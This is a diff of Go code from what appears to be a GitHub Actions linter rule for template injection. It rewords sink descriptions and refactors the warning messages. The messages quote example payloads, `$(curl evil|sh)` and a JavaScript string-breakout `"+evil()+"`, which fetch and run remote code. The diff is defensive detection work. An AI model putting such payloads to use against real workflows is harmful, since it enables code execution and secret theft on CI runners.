@@ -18,7 +18,7 @@ func (templateInjection) ID() string { return RuleTemplateInjection }
 // substituted.
 type sink struct {
 	v *workflow.Value
-	// where names it in messages: "bash run: script", "actions/github-script script".
+	// where names it in messages: "a bash run: script", "the script input of actions/github-script".
 	where string
 	// literal is set for JavaScript and Python sinks, where
 	// `${{ toJSON(x) }}` outside a string literal is a literal value.
@@ -67,10 +67,10 @@ func sinksOf(f *workflow.File, j *workflow.Job, s *workflow.Step) []sink {
 	var out []sink
 	if s.Run != nil {
 		sh := shellName(f, j, s)
-		out = append(out, sink{v: s.Run, where: sh + "run: script", literal: strings.HasPrefix(sh, "python")})
+		out = append(out, sink{v: s.Run, where: "a " + sh + "run: script", literal: strings.HasPrefix(sh, "python")})
 	}
 	if s.Shell != nil && strings.Contains(s.Shell.Value, "${{") {
-		out = append(out, sink{v: s.Shell, where: "shell: command"})
+		out = append(out, sink{v: s.Shell, where: "a shell: command"})
 	}
 	if s.Uses != nil {
 		if u, ok := ParseUses(s.Uses.Value); ok && !u.Local && !u.Docker {
@@ -78,7 +78,7 @@ func sinksOf(f *workflow.File, j *workflow.Job, s *workflow.Step) []sink {
 				for i := range s.With {
 					if k.Runs(s.With[i].Key.Value) {
 						out = append(out, sink{v: &s.With[i].Value, literal: k.Language == "javascript" || k.Language == "python",
-							where: fmt.Sprintf("%s %s input (%s code)", u.Name(), s.With[i].Key.Value, k.Language)})
+							where: fmt.Sprintf("the %s input of %s (%s code)", s.With[i].Key.Value, u.Name(), k.Language)})
 					}
 				}
 			}
@@ -134,16 +134,15 @@ func injections(e *engine, f *workflow.File, k sink, sc scope) []Finding {
 
 func injectionMessage(which string, t taint, where string) string {
 	const fix = "pass it through env: and use the variable (\"$VAR\") instead"
+	const code = "text such as `$(curl evil|sh)` or `\"+evil()+\"` runs as code"
 	switch {
 	case t.why != "":
-		return fmt.Sprintf("%s is expanded into a %s; %s, and text like `$(curl evil|sh)` would run as code: %s",
-			which, where, t.why, fix)
+		return fmt.Sprintf("%s is expanded into %s; %s, and there %s: %s", which, where, t.why, code, fix)
 	case which == t.origin:
-		return fmt.Sprintf("%s is attacker-controlled and expanded into a %s: text like `$(curl evil|sh)` runs as code; %s",
-			which, where, fix)
+		return fmt.Sprintf("%s is attacker-controlled and expanded into %s: %s; %s", which, where, code, fix)
 	}
-	return fmt.Sprintf("%s carries %s, which is attacker-controlled, and is expanded into a %s: "+
-		"text like `$(curl evil|sh)` runs as code; %s", which, t.origin, where, fix)
+	return fmt.Sprintf("%s carries %s, which is attacker-controlled, and is expanded into %s: %s; %s",
+		which, t.origin, where, code, fix)
 }
 
 // jsonLiteral reports whether an expression is `toJSON(…)` standing on its
